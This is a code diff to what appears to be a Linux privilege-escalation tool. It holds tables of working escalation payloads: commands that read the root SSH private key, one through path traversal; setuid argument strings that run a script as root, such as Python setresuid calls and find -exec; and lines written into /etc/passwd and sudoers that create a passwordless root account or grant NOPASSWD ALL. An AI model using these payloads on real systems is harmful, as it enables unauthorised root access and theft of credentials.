@@ -30,10 +30,10 @@ WAYS = {
     "id": [("", "id"), ("", "id", SCRIPT)],
     "whoami": [("", "whoami")],
     "systemctl": [("", "systemctl", "restart", "nginx"), ("", "TTY", "systemctl", "status", "nginx", "!%(script)s\r\rq"), ("", "systemctl", "link", SCRIPT)],
-    "cat": [("", "cat", "/var/log/app.log")],
+    "cat": [("", "cat", "/var/log/app.log"), ("", "cat", "/var/log/../../root/.ssh/id_ed25519"), ("", "cat", "/root/.ssh/id_ed25519")],
     "sudoedit": [("", "EDIT", "/etc/sudoers.d/zz-edit"), ("", "EDIT", "/etc/motd"), ("", "EDIT", "/etc/sudoers.d/zz-way")],
 }
 # What a setuid program or one with capabilities gives: argv behind the program's path, by what it is a copy of (seen by running it).
-SETUID = [("-p", "-c", SCRIPT), ("-c", "import os;os.setresuid(0,0,0);os.setgid(0);os.system('%(script)s')"), ("/etc/hostname", "-exec", SCRIPT, ";")]
+SETUID = [("-p", "-c", SCRIPT), ("-c", "import os;os.setresuid(0,0,0);os.system('%(script)s')"), ("/etc/hostname", "-exec", SCRIPT, ";")]
 # A file that others may write: what one writes so that who runs or reads it runs the order.
 READERS = [("/etc/passwd", "zzway::0:0::/root:/bin/sh\n"), ("/etc/sudoers", "%(me)s ALL=(ALL) NOPASSWD: ALL\n"), ("/etc/sudoers.d/zz-way", "%(me)s ALL=(ALL) NOPASSWD: ALL\n")]
